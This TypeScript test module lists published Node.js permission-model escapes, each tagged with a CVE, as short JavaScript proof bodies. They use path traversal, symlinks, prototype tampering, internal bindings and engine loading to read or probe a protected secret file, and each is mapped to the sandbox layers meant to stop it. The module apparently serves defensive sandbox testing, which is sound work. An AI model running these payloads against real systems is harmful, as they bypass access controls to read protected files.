import type { Attempt, Layers } from './escape-attempts.ts';

/** Published ways around Node's permission model. vulnerable-nodes.test.ts shows that they work on Nodes that have them. */

type Proof = {
  name: string;
  body: string;
  /** Only the permission model keeps a script from it; it does no harm by itself. */
  permissionOnly?: true;
  /** It shows a name, which Landlock does not hide. */
  isName?: true;
  /** Nodes of vulnerable-nodes.test.ts on which it works; absent = on older ones, or only as a step of another attack. */
  on?: readonly string[];
};

const fs = (call: string): string => `const fs = require('node:fs'); ${call};`;

const proofs: readonly Proof[] = [
  {
    name: 'read by a Buffer with a path (CVE-2023-32004)',
    on: ['20.3.0'],
    body: fs(`return String(fs.readFileSync(Buffer.from('OWN/../other/secret')))`),
  },
  {
    name: 'read by a Uint8Array (CVE-2023-39332)',
    on: ['20.3.0'],
    body: fs(`return String(fs.readFileSync(new Uint8Array(Buffer.from('OWN/../other/secret'))))`),
  },
  {
    name: 'read after a change of Buffer (CVE-2024-21896)',
    on: ['20.3.0'],
    body: fs(`Buffer.prototype.utf8Write = () => 0; return String(fs.readFileSync('OWN/../other/secret'))`),
  },
  {
    name: 'read through a link and a step up (CVE-2025-55130)',
    body: fs(
      `fs.mkdirSync('OWN/a/b/c', { recursive: true }); fs.symlinkSync('OWN', 'OWN/a/b/c/own'); return String(fs.readFileSync('OWN/a/b/c/own/../other/secret'))`,
    ),
    on: ['20.3.0', '20.19.6'],
  },
  {
    name: 'see whether a file exists by its real path (CVE-2026-21715)',
    body: fs(`return fs.realpathSync.native('OTHER/secret')`),
    on: ['20.3.0', '20.19.6'],
    isName: true,
  },
  {
    name: 'read by another path.resolve (CVE-2024-21891)',
    body: fs(
      `const path = require('node:path'); path.resolve = (text) => text; path.toNamespacedPath = (text) => text; return String(fs.readFileSync('OWN/../other/secret'))`,
    ),
    on: ['20.3.0'],
  },
  {
    name: 'see the size of a file by lstat (CVE-2024-22018)',
    body: fs(`return fs.lstatSync('OTHER/secret').size`),
    on: ['20.3.0'],
    isName: true,
  },
  {
    name: 'see the file system of a file by statfs (CVE-2023-32005)',
    body: fs(`return fs.statfsSync('OTHER/secret').type`),
    on: ['20.3.0'],
    isName: true,
  },
  {
    name: "read by the process's binding (CVE-2023-32002, CVE-2023-32558)",
    body: `const binding = process.binding('fs'); const fd = binding.open('OTHER/secret', 0, 0o666); return fd;`,
  },
  {
    name: 'read by Module._load (CVE-2023-32002)',
    body: `return require('module')._load('OTHER/secret.json');`,
  },
  {
    name: 'read by fs.openAsBlob (CVE-2023-30583)',
    on: ['20.3.0'],
    body: `return (await (await require('node:fs').openAsBlob('OTHER/secret')).text());`,
  },
  {
    name: 'list by statfs and watch (CVE-2023-30582)',
    body: `const watcher = require('node:fs').watch('OTHER'); watcher.close();`,
  },
  { name: 'list by mkdtemp (CVE-2023-30587)', body: `return require('node:fs').mkdtempSync('OTHER/x');` },
  {
    name: 'start the inspector in a worker (CVE-2023-30587)',
    body: `const { Session } = require('node:inspector'); const { Worker } = require('node:worker_threads'); new Worker('0', { eval: true, execArgv: [] });`,
    permissionOnly: true,
  },
  { name: 'load an engine of OpenSSL (CVE-2023-30586)', body: `require('node:crypto').setEngine('ADDON');` },
];

const attemptOf = ({ name, body, permissionOnly, isName }: Proof): Attempt => ({
  name: `permission model: ${name}`,
  body,
  stopped: (layers: Layers) =>
    layers.permission ||
    (isName === true
      ? layers.mounts
      : layers.landlock > 0 && permissionOnly !== true && !name.startsWith('list by statfs')),
});

export const permissionAttempts: readonly Attempt[] = proofs.map(attemptOf);

/** The proofs that work on a Node with the permission model only. */
export const workingOn = (version: string): Attempt[] =>
  proofs.filter(({ on }) => on?.includes(version) === true).map(attemptOf);
